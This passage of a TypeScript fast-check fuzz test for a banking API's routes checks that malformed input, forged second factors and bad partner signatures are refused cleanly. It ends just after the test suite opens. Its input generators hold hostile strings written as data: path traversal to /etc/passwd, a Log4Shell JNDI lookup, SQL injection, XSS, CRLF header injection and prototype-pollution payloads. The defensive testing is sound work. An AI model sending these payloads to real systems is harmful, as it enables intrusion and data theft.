// Bad input on EVERY route, generated from the OpenAPI document with fast-check: missing, extra
// and wrongly typed fields, huge/negative/fractional amounts, overlong strings, unicode and
// control characters, malformed JSON, wrong content types, oversized bodies, bad
// Idempotency-Keys, path traversal in paths and ids, bad query strings. Each case carries a
// valid token (or operator key) and a valid Idempotency-Key where the route needs them, so it
// reaches validation. Required of every answer: never a 5xx, no stack trace or internal detail,
// the `{ error: { code, message } }` shape on every 4xx — and the whole table exactly as before.
//
// A case is sent only if it MUST be refused: the contract's own schema (routes.ts) rejects it,
// or it carries a string no field may hold (control characters, unpaired surrogates, invisible
// format characters other than ZWJ/ZWNJ). Read-only routes also get in-contract oddities (a
// cursor the server never issued), which may succeed but must not fail.
//
// A money route's second factor (a nonce for the exact request and the PIN encrypted with its
// challenge) is real in every case that carries one: asked for the very body the case sends, so a
// case is refused for what it breaks, never merely for an unsigned nonce. Second-factor routes
// also get second factors that must not pass — a tampered or another customer's nonce, a nonce
// for another amount or bound to another Idempotency-Key, a cipher for another challenge, stale
// or corrupt — each refused with its own code, before any PIN is counted.
//
// A partner's request (/v1/open/…) is signed by the partner simulator's client over the very
// bytes the case sends, so it reaches validation; partner routes also get signatures that must not
// pass — over another body, stale, by another partner's key, malformed — each refused with 401.
//
// `npm test`: ~1,000 cases; `JINLIN_SOAK=1` (npm run soak): ≥ 10,000. JINLIN_FUZZ_SEED replays.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import type * as z from 'zod/mini';
import { type RouteSpec, routes } from '../../functions/contract/routes.js';
import { handler as paymentAuthorizations } from '../../functions/http/payment-authorizations.js';
import { SECRET_BODY_FIELDS } from '../../functions/platform/request-hash.js';
import { call, type CallOptions, transcript, useBank } from '../support/bank.js';
import { deployedHandlers, type Handler } from '../support/deployed.js';
import { examplePath, exampleValue, type Json, type JsonSchema, requestSchemas, resolve } from '../support/examples.js';
import { type Onboarded, onboard, topUp } from '../support/customers.js';
import { expectOk } from '../support/expect.js';
import { errorShapeProblem, internalDetail } from '../support/leaks.js';
import { assertLedgerSound, type Item, scanTable } from '../support/ledger-check.js';
import { newStaff, type Staff } from '../support/rm.js';
import { type Authorization, encryptPin } from '../support/second-factor.js';
import { registerPartner, type TestPartner } from '../support/partners.js';
import { authorization as partnerAuthorization } from '../../scripts/partner-sim/client.js';

useBank();

const soak = process.env.JINLIN_SOAK === '1';
const TOTAL_CASES = Number(process.env.JINLIN_FUZZ_CASES ?? (soak ? 10_000 : 1_000));
const SEED = process.env.JINLIN_FUZZ_SEED ? Number(process.env.JINLIN_FUZZ_SEED) : Math.floor(Math.random() * 2 ** 31);

/** Characters no field of this API may hold. */
const FORBIDDEN = /[\p{Cc}\p{Cs}]|(?![\u200c\u200d])\p{Cf}/u;

interface FuzzRoute {
  name: string;
  spec: RouteSpec;
  handler: Handler;
  body?: JsonSchema;
  query?: JsonSchema;
}

interface Case {
  why: string;
  options: CallOptions;
  /** true: must be a 4xx. false: may succeed (read-only, in-contract oddity), must not fail. */
  mustRefuse: boolean;
  /** A second factor that must not pass, made when the case is sent (see secondFactorFor). */
  badFactor?: BadFactor;
  /** A partner's signature that must not pass, made when the case is sent (see signedFor). */
  badSignature?: BadSignature;
}

/** Partner signatures that must not pass, and how each is refused (401). */
const BAD_SIGNATURES = {
  otherBody: 'SIGNATURE_INVALID',
  stale: 'TIMESTAMP_EXPIRED',
  otherKey: 'SIGNATURE_INVALID',
  malformed: 'AUTHORIZATION_MALFORMED',
} as const;
type BadSignature = keyof typeof BAD_SIGNATURES;

/** Second factors that must not pass, and how each is refused. */
const BAD_FACTORS = {
  tamperedMac: 'NONCE_INVALID',
  tamperedPayload: 'NONCE_INVALID',
  otherCustomer: 'NONCE_INVALID',
  otherRequest: 'NONCE_MISMATCH',
  otherKey: 'NONCE_MISMATCH',
  otherChallenge: 'PIN_CIPHER_INVALID',
  staleCipher: 'PIN_CIPHER_INVALID',
  corruptCipher: 'PIN_CIPHER_INVALID',
} as const;
type BadFactor = keyof typeof BAD_FACTORS;

/** What a valid body carries where a second factor goes, until the case is sent: well-formed, so
 *  the schema passes it, and replaced then by a real one for the very body sent. */
const NONCE_PLACEHOLDER = `v1.${'FuzzNoncePayload'.repeat(2)}.${'FuzzNonceMac'.repeat(4)}`;
const CIPHER_PLACEHOLDER = 'c0ffee'.repeat(40);

/** Every route of the contract, with its JSON Schemas from the OpenAPI document and the Lambda
 *  handler serverless.yml deploys it to. */
async function fuzzRoutes(): Promise<FuzzRoute[]> {
  const byRouteKey = await deployedHandlers();
  return (Object.entries(routes) as [string, RouteSpec][]).map(([name, spec]) => {
    const handler = byRouteKey.get(`${spec.method} ${spec.path}`);
    assert.ok(handler, `${name} is not deployed`);
    return { name, spec, handler, ...requestSchemas(name, spec) };
  });
}

// ---- the people and values a valid request would carry ----------------------------------------

let a: Onboarded;
let b: Onboarded;
/** A relationship manager, so staff routes are reached past authentication. */
let manager: Staff;
/** A partner whose signed requests reach the open platform's validation, and another whose key is
 *  not the first's. */
let partner: TestPartner;
let otherPartner: TestPartner;
const operatorKey = () => process.env.JINLIN_OPERATOR_KEY ?? '';

/** A value the field accepts (for the parts of a case that are not the point of the case). */
const validValue = (name: string, schema: JsonSchema): Json =>
  exampleValue(name, schema, {
    nonce: NONCE_PLACEHOLDER, pinCipher: CIPHER_PLACEHOLDER, toPhone: b.phone, phone: b.phone, name: '张三', idNumber: a.idNumber,
    cardNumber: a.cardNumber, user: 'fuzzer', code: 'sim-login.fuzzer', refreshToken: 'r'.repeat(32), memo: '午饭',
  });

function validBody(route: FuzzRoute): Record<string, Json> {
  return validValue('(body)', route.body ?? { type: 'object' }) as Record<string, Json>;
}

/** A body the contract's schema accepts: the valid one, or with some optional fields added where
 *  a rule wants them (a bill payment names biller and account, or a saved payee). */
function acceptedBody(route: FuzzRoute): Record<string, Json> | undefined {
  const base = validBody(route);
  if (accepts(route.spec.body, base)) return base;
  const props = route.body?.properties ?? {};
  const optional = Object.keys(props).filter((k) => !(route.body?.required ?? []).includes(k));
  if (optional.length > 8) return undefined;
  for (let mask = 1; mask < 1 << optional.length; mask++) {
    const body = { ...base };
    optional.forEach((k, i) => {
      if (mask & (1 << i)) body[k] = validValue(k, props[k]!);
    });
    if (accepts(route.spec.body, body)) return body;
  }
  return undefined;
}

function baseOptions(route: FuzzRoute): CallOptions {
  let path = route.spec.path;
  // Ids in paths: well-formed, belonging to nobody.
  path = path.replace(/\{(\w+)\}/g, (_, param: string) => (param === 'loanId' ? `L${'0'.repeat(20)}` : `x${param}`));
  return {
    method: route.spec.method,
    path,
    ...(route.spec.auth === 'customer' ? { token: a.token } : {}),
    ...(route.spec.auth === 'staff' ? { token: manager.token } : {}),
    ...(route.spec.auth === 'operator' ? { headers: { 'x-operator-key': operatorKey() } } : {}),
    ...(route.spec.idempotent ? { idempotencyKey: `fuzz-${randomUUID()}` } : {}),
  };
}

// ---- generators --------------------------------------------------------------------------------

const hostile = fc.oneof(
  fc.constantFrom(
    '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//', '/v1/../v1/me',
    '\u0000', 'a\u0000b', '\u202eevil\u202c', '\u200b', '\ufeff', '\u00ad', '\ud800', 'x\udfffy', 'x\r\nX-Injected: 1', '\u0007\u001b[31m',
    '<script>alert(1)</script>', "' OR '1'='1' --", '${jndi:ldap://x/a}', '{{7*7}}', '%s%s%n', 'NaN', '-0', '1e400', 'null', 'undefined',
    '🏦💰', '𠀀𠀁𠀂', 'Ǆǅǆ', 'İıſ', '\u0661\u0662\u0663', '１２３', 'ＡＢＣ', ' ', '',
  ),
  fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 8 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }),
  fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom('\ud800', '\udc00', '\u202e', '\u2066', '\u0085', '\u2028', '\u00a0')).map(([s, c]) => s + c + s),
  fc.integer({ min: 200, max: 20_000 }).map((n) => 'A'.repeat(n)),
  fc.integer({ min: 100, max: 3_000 }).map((n) => '张'.repeat(n)),
);

const numbersBad = fc.oneof(
  fc.constantFrom<Json>(0, -1, -0.5, 0.01, 0.5, 1.5, 99.99, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), 1e20, 1e308, -1e308, 100_000_001, Number.MAX_SAFE_INTEGER),
  fc.integer({ min: -1_000_000_000, max: 0 }),
  fc.double({ min: -1e12, max: 1e12, noNaN: true, noDefaultInfinity: true }).filter((x) => !Number.isInteger(x)),
);

const anyJson: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(null, true, false, 0, -1, 1.5, '', '1', [], {}, [1, 2], { nested: { deep: [null] } }),
  fc.string({ maxLength: 10 }),
  fc.integer(),
);

/** A value of the wrong JSON type for this field. */
function wrongType(schema: JsonSchema): fc.Arbitrary<Json> {
  const type = resolve(schema)?.type;
  return anyJson.filter((v) => {
    if (type === 'string') return typeof v !== 'string';
    if (type === 'integer' || type === 'number') return typeof v !== 'number';
    if (type === 'boolean') return typeof v !== 'boolean';
    if (type === 'array') return !Array.isArray(v);
    if (type === 'object') return v === null || typeof v !== 'object' || Array.isArray(v);
    return true;
  });
}

/** A value of the right type that breaks the field's constraints, or a hostile string. */
function badValue(schema: JsonSchema): fc.Arbitrary<Json> {
  const s = resolve(schema) ?? {};
  if (s.type === 'integer' || s.type === 'number') {
    const around = [s.minimum !== undefined ? s.minimum - 1 : -1, s.maximum !== undefined ? s.maximum + 1 : 2 ** 53];
    return fc.oneof(numbersBad, fc.constantFrom<Json>(...around), numbersBad.map((n) => (typeof n === 'number' ? String(n) : n)));
  }
  if (s.enum) return fc.oneof(fc.string({ maxLength: 20 }).filter((x) => !s.enum!.includes(x)), fc.constantFrom(...s.enum.map((e) => e.toLowerCase() + ' ')));
  const overlong = fc.integer({ min: (s.maxLength ?? 256) + 1, max: (s.maxLength ?? 256) + 500 }).map((n) => 'x'.repeat(n));
  // Any text, made to miss the pattern (a NUL breaks every pattern of this API) — never a filter
  // that could spin on a pattern almost everything matches.
  const breaksPattern = s.pattern
    ? fc.string({ unit: 'binary', maxLength: 30 }).map((x) => (new RegExp(s.pattern!, 'u').test(x) ? `${x}\u0000` : x))
    : fc.constant('');
  return fc.oneof(hostile, overlong, breaksPattern);
}

/** Raw texts that are not a JSON object: broken syntax, other JSON values, encodings. */
const malformed = (valid: string) =>
  fc.oneof(
    fc.constantFrom('', ' ', '{', '}', '{"', '{"a":}', '{,}', '[', 'nul', 'undefined', 'NaN', "{'a':1}", '{a:1}', '{"a":1,}', '{"a":1}}', '\ufeff{}', '{"a":"\\x41"}', '{"a":"\\ud800"}', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '[]', '"string"', '42', 'true', 'null'),
    fc.integer({ min: 1, max: Math.max(1, valid.length - 1) }).map((n) => valid.slice(0, n)),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.integer({ min: 1, max: 3_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
    fc.constant(valid.replace(/"/g, "'")),
    fc.constant(valid.replace(/:/g, '=')),
    fc.constant(`${valid.slice(0, -1)},"amountFen":1e400}`),
    fc.constant(`${valid.slice(0, -1)},"amountFen":NaN}`),
  );

const badKeys = fc.oneof(
  fc.constantFrom('', 'short', 'x'.repeat(65), 'has space-123', 'ünïcödé-key', '../../etc/pass', 'key\u0000nul-1', 'key;DROP-TABLE', '%2e%2e%2f%2e%2e%2f'),
  fc.string({ maxLength: 100 }).filter((k) => !/^[A-Za-z0-9_-]{8,64}$/.test(k)),
);

const traversal = fc.constantFrom(
  '/..', '/../', '/../me', '/%2e%2e', '/%2e%2e/me', '/..%2f..%2fme', '/.', '/./', '//', '/%00', '\u0000', ';x', '%20', '/x', '?', '#', '%', '/%ZZ',
);

const badIds = fc.oneof(
  fc.constantFrom('..', '.', '%2e%2e', '..%2f..%2fme', '%00', 'L', 'L123', 'X'.repeat(41), `L${'a'.repeat(41)}`, 'L0000000000;drop', 'L00000000000%0a', '*', 'me'),
  // Ids as a client would put them in a URL (unpaired surrogates cannot be encoded: sent raw).
  hostile.map((h) => (/\p{Cs}/u.test(h) ? h : encodeURIComponent(h)).replace(/\//g, '%2F')),
).filter((id) => id !== ''); // an empty id is another route's path (`/v1/loans/` is the list)

const contentTypes = fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'text/json', 'application/jsonp', '', 'application/octet-stream', 'image/png');

/** Whether the contract's own schema accepts `value`. */
const accepts = (schema: z.ZodMiniType | undefined, value: unknown) => schema !== undefined && schema.safeParse(value).success;

const hasForbidden = (value: unknown): boolean =>
  typeof value === 'string' ? FORBIDDEN.test(value) : Array.isArray(value) ? value.some(hasForbidden) : value !== null && typeof value === 'object' ? Object.entries(value).some(([k, v]) => FORBIDDEN.test(k) || hasForbidden(v)) : false;

function parsesTo(raw: string): { ok: true; value: unknown } | { ok: false } {
  try {
    return { ok: true, value: JSON.parse(raw) };
  } catch {
    return { ok: false };
  }
}

/** All the cases for one route. */
function cases(route: FuzzRoute): fc.Arbitrary<Case> {
  const { spec } = route;
  const arbitraries: fc.Arbitrary<Case>[] = [];
  const body = () => validBody(route);
  const withBody = (why: string, value: unknown, extra: Partial<CallOptions> = {}): Case => {
    const mustRefuse = !accepts(spec.body, value) || hasForbidden(value);
    return { why, options: { ...baseOptions(route), rawBody: JSON.stringify(value), ...extra }, mustRefuse };
  };

  if (spec.body && route.body) {
    const props = Object.entries(route.body.properties ?? {});
    const required = route.body.required ?? [];
    if (required.length) {
      arbitraries.push(fc.constantFrom(...required).map((field) => {
        const value = body();
        delete value[field];
        return withBody(`missing ${field}`, value);
      }));
    }
    arbitraries.push(fc.tuple(fc.oneof(fc.string({ maxLength: 20 }), hostile, fc.constantFrom('accountId', 'customerId', 'balanceFen', 'admin', 'isAdmin', 'role', '__proto__', 'constructor', 'prototype')), anyJson).map(([key, v]) => {
      const raw = JSON.stringify(body()).replace(/^\{/, `{${JSON.stringify(key)}:${JSON.stringify(v)},`).replace(',}', '}');
      const parsed = parsesTo(raw);
      return { why: `extra field ${JSON.stringify(key)}`, options: { ...baseOptions(route), rawBody: raw }, mustRefuse: !parsed.ok || !accepts(spec.body, parsed.value) || hasForbidden(parsed.value) };
    }));
    if (props.length) {
      arbitraries.push(fc.constantFrom(...props).chain(([field, schema]) => wrongType(schema).map((v) => withBody(`${field} of the wrong type: ${JSON.stringify(v)}`, { ...body(), [field]: v }))));
      arbitraries.push(fc.constantFrom(...props).chain(([field, schema]) => badValue(schema).map((v) => withBody(`${field} = ${JSON.stringify(v)?.slice(0, 60)}`, { ...body(), [field]: v }))));
      // The same key twice: JSON.parse keeps the last one, which is bad.
      arbitraries.push(fc.constantFrom(...props).chain(([field, schema]) => badValue(schema).map((v) => {
        const good = body();
        const raw = JSON.stringify(good).replace(/\}$/, `${Object.keys(good).length ? ',' : ''}${JSON.stringify(field)}:${JSON.stringify(v)}}`);
        const parsed = parsesTo(raw);
        return { why: `${field} twice, last ${JSON.stringify(v)?.slice(0, 40)}`, options: { ...baseOptions(route), rawBody: raw }, mustRefuse: !parsed.ok || !accepts(spec.body, parsed.value) || hasForbidden(parsed.value) };
      })));
    }
    arbitraries.push(anyJson.filter((v) => v === null || typeof v !== 'object' || Array.isArray(v)).map((v) => withBody(`body is ${JSON.stringify(v)}`, v)));
    arbitraries.push(fc.constant(null).chain(() => malformed(JSON.stringify(body()))).map((raw) => {
      const parsed = parsesTo(raw);
      return { why: `malformed JSON ${JSON.stringify(raw.slice(0, 60))}`, options: { ...baseOptions(route), rawBody: raw }, mustRefuse: !parsed.ok || !accepts(spec.body, parsed.value) || hasForbidden(parsed.value) };
    }));
    arbitraries.push(contentTypes.map((contentType) => {
      const good = body();
      const raw = contentType.startsWith('application/x-www-form') ? new URLSearchParams(Object.entries(good).map(([k, v]) => [k, String(v)])).toString() : JSON.stringify(good);
      const base = baseOptions(route);
      return { why: `content type ${JSON.stringify(contentType)}`, options: { ...base, rawBody: raw, headers: { ...base.headers, 'content-type': contentType } }, mustRefuse: true };
    }));
  }

  // Second factors that must not pass, on a request otherwise valid (ids in the path that the
  // schema accepts, so it reaches the second factor).
  const weighted: fc.WeightedArbitrary<Case>[] = [];
  const accepted = spec.secondFactor && spec.body ? acceptedBody(route) : undefined;
  if (accepted) {
    weighted.push({ weight: 2, arbitrary: fc.constantFrom(...(Object.keys(BAD_FACTORS) as BadFactor[])).map((badFactor) => ({
      why: `second factor: ${badFactor}`,
      options: { ...baseOptions(route), path: examplePath(route.name, spec), rawBody: JSON.stringify(accepted) },
      mustRefuse: true,
      badFactor,
    })) });
  }

  // Oversized bodies, for every route: refused before anything is parsed.
  arbitraries.push(fc.tuple(fc.integer({ min: 16 * 1024 + 1, max: 256 * 1024 }), fc.constantFrom('x', '张', '\u0000')).map(([bytes, ch]) => {
    const padding = ch.repeat(Math.ceil(bytes / Buffer.byteLength(ch)));
    return { why: `oversized body of ${bytes}+ bytes`, options: { ...baseOptions(route), rawBody: JSON.stringify({ ...(spec.body ? body() : {}), padding }) }, mustRefuse: true };
  }));

  if (spec.idempotent) {
    arbitraries.push(badKeys.map((key) => {
      const base = baseOptions(route);
      const { idempotencyKey: _k, ...rest } = base;
      return { why: `Idempotency-Key ${JSON.stringify(key)}`, options: { ...rest, ...(spec.body ? { rawBody: JSON.stringify(body()) } : {}), headers: { ...rest.headers, 'idempotency-key': key } }, mustRefuse: true };
    }));
  }

  if (route.query && spec.query) {
    const props = Object.entries(route.query.properties ?? {});
    const validQuery = () => Object.fromEntries(Object.entries(validValue('(query)', route.query!) as Record<string, Json>).map(([k, v]) => [k, String(v)]));
    const withQuery = (why: string, query: Record<string, string>, readOnly = spec.method === 'GET'): Case | undefined => {
      const mustRefuse = !accepts(spec.query, query) || hasForbidden(query);
      if (!mustRefuse && !readOnly) return undefined;
      return { why, options: { ...baseOptions(route), query }, mustRefuse };
    };
    const queryCases: fc.Arbitrary<Case | undefined>[] = [
      fc.tuple(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('accountId', 'customerId', 'limit[]', '__proto__')), fc.string({ maxLength: 12 })).map(([k, v]) => withQuery(`extra query ${JSON.stringify(k)}`, { ...validQuery(), [k]: v })),
      ...(props.length
        ? [
            fc.constantFrom(...props).chain(([k, schema]) => fc.oneof(badValue(schema).map(String), fc.constantFrom('', ' 5', '5 ', '1,2', '0x10', '1e1', '-0', '+5', 'Infinity')).map((v) => withQuery(`query ${k}=${JSON.stringify(v).slice(0, 60)}`, { ...validQuery(), [k]: v }))),
            fc.constantFrom(...props).chain(([k]) => fc.string({ maxLength: 40 }).map((s) => withQuery(`forged ${k}`, { ...validQuery(), [k]: k === 'cursor' ? Buffer.from(`POST#${s}`).toString('base64url') : s }))),
          ]
        : []),
    ];
    if ((route.query.required ?? []).length) {
      queryCases.push(fc.constantFrom(...route.query.required!).map((k) => {
        const q = validQuery();
        delete q[k];
        return withQuery(`query without ${k}`, q);
      }));
    }
    arbitraries.push(...queryCases.map((arb) => arb.filter((c): c is Case => c !== undefined)));
  }

  // Path traversal around the route's path, and malformed ids in it.
  arbitraries.push(fc.tuple(traversal, fc.boolean()).map(([t, suffix]) => {
    const base = baseOptions(route);
    const path = suffix ? base.path + t : base.path.replace(/\/[^/]*$/, t);
    return { why: `path ${JSON.stringify(path)}`, options: { ...base, path, ...(spec.body ? { rawBody: JSON.stringify(body()) } : {}) }, mustRefuse: path !== base.path && path !== `${base.path}/` };
  }));
  if (/\{\w+\}/.test(spec.path)) {
    arbitraries.push(badIds.map((id) => {
      const base = baseOptions(route);
      const path = spec.path.replace(/\{\w+\}/, id);
      return { why: `id ${JSON.stringify(id)}`, options: { ...base, path, ...(spec.body ? { rawBody: JSON.stringify(body()) } : {}) }, mustRefuse: true };
    }));
  }
  // Partner signatures that must not pass, on a request otherwise as the case would send it.
  if (spec.auth === 'partner') {
    weighted.push({ weight: 2, arbitrary: fc.constantFrom(...(Object.keys(BAD_SIGNATURES) as BadSignature[])).map((badSignature) => ({
      why: `partner signature: ${badSignature}`,
      options: { ...baseOptions(route), path: examplePath(route.name, spec), ...(spec.body ? { rawBody: JSON.stringify(body()) } : {}) },
      mustRefuse: true,
      badSignature,
    })) });
  }
  // A mangled Authorization header on a route that needs one.
  if (spec.auth === 'customer' || spec.auth === 'staff') {
    arbitraries.push(fc.constantFrom('Bearer', 'Bearer ', `Bearer ${a.token} x`, `Basic ${Buffer.from('a:b').toString('base64')}`, `Bearer ${'A'.repeat(5000)}`, `Bearer ${a.token.split('.').slice(0, 2).join('.')}.`, `Bearer ${a.token}\u0000`, 'Bearer ../../etc/passwd.x.y').map((header) => {
      const { token: _t, ...base } = baseOptions(route);
      return { why: `Authorization ${JSON.stringify(header.slice(0, 40))}`, options: { ...base, ...(spec.body ? { rawBody: JSON.stringify(body()) } : {}), headers: { ...base.headers, authorization: header } }, mustRefuse: true };
    }));
  }
  return fc.oneof(...arbitraries.map((arbitrary) => ({ weight: 1, arbitrary })), ...weighted);
}

// ---- the property ------------------------------------------------------------------------------

/** The table as a text, without the bookkeeping every signed partner request leaves whatever its
 *  fate — its spent nonce and its minute's count — which is the point of signing, not a change. */
const isRequestBookkeeping = (item: Item) => /^OPEN(NONCE|RATE)#/.test(String(item.PK));
const snapshotText = (items: Item[]) => items.filter((i) => !isRequestBookkeeping(i)).map((i) => JSON.stringify(i, Object.keys(i).sort())).sort().join('\n');
let known = '';
const stats = { cases: 0, refused: 0, answered: 0, badFactors: 0, realFactors: 0, badSignatures: 0, byStatus: {} as Record<string, number> };

// ---- the second factor, made when a case is sent ------------------------------------------------

const isObject = (value: unknown): value is Record<string, unknown> => value !== null && typeof value === 'object' && !Array.isArray(value);

/** A nonce for `path` and `body` as `token`'s customer asks it, or undefined when the issuer
 *  refuses (a path that is no second-factor route, a body it cannot price). Writes nothing. */
async function authorization(token: string, path: string, body: Record<string, unknown>, idempotencyKey?: string): Promise<Authorization | undefined> {
  const answer = await call<Authorization>(paymentAuthorizations, { method: 'POST', path: '/v1/payment-authorizations', token, body: { method: 'POST', path, body, ...(idempotencyKey ? { idempotencyKey } : {}) } });
  return answer.status === 200 ? answer.body : undefined;
}

/** Changes one character of a base64url text, keeping it base64url. */
const flip = (text: string, at: number) => text.slice(0, at) + (text[at] === 'A' ? 'B' : 'A') + text.slice(at + 1);

/** The case as it is sent: the placeholders replaced by a real second factor for the body it
 *  sends (as JSON.parse reads it, the way the server does) — or by the bad one it is about —
 *  and the code that bad one must be refused with. A body the issuer will not price keeps the
 *  placeholders: a well-formed nonce the bank never signed. */
async function secondFactorFor(route: FuzzRoute, c: Case): Promise<{ options: CallOptions; expect?: string }> {
  const raw = c.options.rawBody;
  if (!route.spec.secondFactor || raw === undefined || !raw.includes(NONCE_PLACEHOLDER)) return { options: c.options };
  const parsed = parsesTo(raw);
  if (!parsed.ok || !isObject(parsed.value)) return { options: c.options };
  const asked: Record<string, unknown> = { ...parsed.value };
  for (const field of SECRET_BODY_FIELDS) delete asked[field];
  const issued = await authorization(a.token, c.options.path, asked);
  const bad = c.badFactor;
  const fill = (nonce: string, cipher: string) => ({ ...c.options, rawBody: raw.split(NONCE_PLACEHOLDER).join(nonce).split(CIPHER_PLACEHOLDER).join(cipher) });
  if (!issued) return { options: c.options, ...(bad ? { expect: 'NONCE_INVALID' } : {}) };
  const cipher = encryptPin(issued, a.pin);
  if (!bad) {
    stats.realFactors++;
    return { options: fill(issued.nonce, cipher) };
  }
  const [version, payload, mac] = issued.nonce.split('.') as [string, string, string];
  let nonce = issued.nonce;
  let pinCipher = cipher;
  let expect: string = BAD_FACTORS[bad];
  if (bad === 'tamperedMac') nonce = `${version}.${payload}.${flip(mac, 0)}`;
  else if (bad === 'tamperedPayload') nonce = `${version}.${flip(payload, Math.floor(payload.length / 2))}.${mac}`;
  else if (bad === 'otherCustomer') {
    // The same request, asked by another customer (who may not be able to ask it: then a nonce
    // with a broken signature stands in, refused alike).
    const theirs = await authorization(b.token, c.options.path, asked);
    nonce = theirs ? theirs.nonce : `${version}.${payload}.${flip(mac, 0)}`;
  } else if (bad === 'otherRequest') {
    const other = await authorization(a.token, c.options.path, { ...asked, amountFen: typeof asked.amountFen === 'number' ? asked.amountFen + 1 : 1 });
    if (other) {
      nonce = other.nonce;
      pinCipher = encryptPin(other, a.pin);
    } else {
      nonce = `${version}.${payload}.${flip(mac, 0)}`;
      expect = 'NONCE_INVALID';
    }
  } else if (bad === 'otherKey') {
    // The same request, its nonce bound to an Idempotency-Key other than the one it carries.
    const other = await authorization(a.token, c.options.path, asked, `fuzz-other-${randomUUID()}`);
    if (other) {
      nonce = other.nonce;
      pinCipher = encryptPin(other, a.pin);
    } else {
      nonce = `${version}.${payload}.${flip(mac, 0)}`;
      expect = 'NONCE_INVALID';
    }
  } else if (bad === 'otherChallenge') pinCipher = encryptPin(issued, a.pin, { challenge: 'x'.repeat(issued.challenge.length) });
  else if (bad === 'staleCipher') pinCipher = encryptPin(issued, a.pin, { ts: Date.now() - 10 * 60_000 });
  // The cipher's SM3 digest (after the 64-byte point) no longer matches its message.
  else if (bad === 'corruptCipher') pinCipher = cipher.slice(0, 140) + (cipher[140] === '0' ? '1' : '0') + cipher.slice(141);
  return { options: fill(nonce, pinCipher), expect };
}

/** A partner route's case as it is sent: signed over its very method, path, query and body — or
 *  with the bad signature it is about. */
function signedFor(route: FuzzRoute, c: Case, options: CallOptions): CallOptions {
  if (route.spec.auth !== 'partner') return options;
  const query = new URLSearchParams(options.query ?? {}).toString();
  const bad = c.badSignature;
  const request = {
    method: options.method as 'GET' | 'POST',
    pathWithQuery: query ? `${options.path}?${query}` : options.path,
    body: `${options.rawBody ?? ''}${bad === 'otherBody' ? ' ' : ''}`,
    ...(bad === 'stale' ? { timestampSeconds: Math.floor(Date.now() / 1000) - 600 } : {}),
  };
  const credentials = bad === 'otherKey' ? { ...partner.credentials, privateKeyPem: otherPartner.credentials.privateKeyPem } : partner.credentials;
  const header = bad === 'malformed' ? partnerAuthorization(credentials, request).replace('nonce_str=', 'nonce=') : partnerAuthorization(credentials, request);
  return { ...options, headers: { ...options.headers, authorization: header } };
}

async function check(route: FuzzRoute, c: Case): Promise<void> {
  stats.cases++;
  let status: number;
  let raw: string;
  // Made before the case's own call: the answer read below is the case's.
  const factored = await secondFactorFor(route, c);
  const { expect } = factored;
  const options = signedFor(route, c, factored.options);
  if (c.badSignature) stats.badSignatures++;
  if (c.badFactor) stats.badFactors++;
  try {
    const before = transcript.length;
    const result = await call(route.handler, options).catch((error: unknown) => {
      // call() parses the body as JSON; an answer that is not JSON is itself a finding.
      const last = transcript[transcript.length - 1];
      if (transcript.length > before && last) return { status: last.status, body: undefined };
      throw error;
    });
    status = result.status;
    raw = transcript[transcript.length - 1]!.body;
  } catch (error) {
    assert.fail(`${c.why}: the handler threw ${(error as Error).name}`);
  }
  stats.byStatus[status] = (stats.byStatus[status] ?? 0) + 1;
  // The whole table, exactly as before (read first, so a failing case still moves `known` on).
  const after = snapshotText(await scanTable());
  const diff = after !== known ? diffItems(known, after) : '';
  known = after;
  assert.ok(status < 500, `${c.why}: ${status} ${raw.slice(0, 300)}`);
  const leak = internalDetail(raw);
  assert.equal(leak, undefined, `${c.why}: answer shows ${leak}: ${raw.slice(0, 300)}`);
  if (c.mustRefuse) assert.ok(status >= 400, `${c.why}: accepted (${status}) ${raw.slice(0, 300)}`);
  if (status >= 400) {
    stats.refused++;
    const shape = errorShapeProblem(raw);
    assert.equal(shape, undefined, `${c.why}: ${status} error shape: ${shape}: ${raw.slice(0, 300)}`);
  } else stats.answered++;
  if (expect) assert.equal(`${status} ${parsesTo(raw).ok ? (JSON.parse(raw) as { error?: { code?: string } }).error?.code : raw}`, `403 ${expect}`, `${c.why}: ${raw.slice(0, 300)}`);
  if (c.badSignature) assert.equal(`${status} ${parsesTo(raw).ok ? (JSON.parse(raw) as { error?: { code?: string } }).error?.code : raw}`, `401 ${BAD_SIGNATURES[c.badSignature]}`, `${c.why}: ${raw.slice(0, 300)}`);
  assert.equal(diff, '', `${c.why}: the database changed:\n${diff}`);
}

/** An item whose TTL has passed: DynamoDB Local deletes those by itself (a soak outlives a
 *  payment nonce), so its going is the database's housekeeping, not the case's doing. */
function expiredByTtl(line: string): boolean {
  if (!line) return false;
  const { expiresAtEpoch } = JSON.parse(line) as { expiresAtEpoch?: unknown };
  return typeof expiresAtEpoch === 'number' && expiresAtEpoch * 1000 <= Date.now();
}

function diffItems(before: string, after: string): string {
  const b = new Set(before.split('\n'));
  const a2 = new Set(after.split('\n'));
  const removed = [...b].filter((l) => !a2.has(l) && !expiredByTtl(l));
  return [...removed.map((l) => `- ${l.slice(0, 300)}`), ...[...a2].filter((l) => !b.has(l)).map((l) => `+ ${l.slice(0, 300)}`)].slice(0, 10).join('\n');
}

let all: FuzzRoute[] = [];
const setUp = async () => {
  [a, b] = await Promise.all([onboard({ name: '张三' }), onboard({ name: '李四' })]);
  expectOk(await topUp(a, 10_000));
  manager = await newStaff({ name: '王芳', branchId: 'FUZZ-01' });
  [partner, otherPartner] = await Promise.all([registerPartner({ rateLimitPerMinute: 6_000 }), registerPartner()]);
  all = await fuzzRoutes();
  known = snapshotText(await scanTable());
  console.log(`[fuzz] seed ${SEED} — reproduce with JINLIN_FUZZ_SEED=${SEED}; ${TOTAL_CASES} cases over ${all.length} routes`);
};

describe(`bad input on every route (seed ${SEED})`, () => {
  before(setUp);
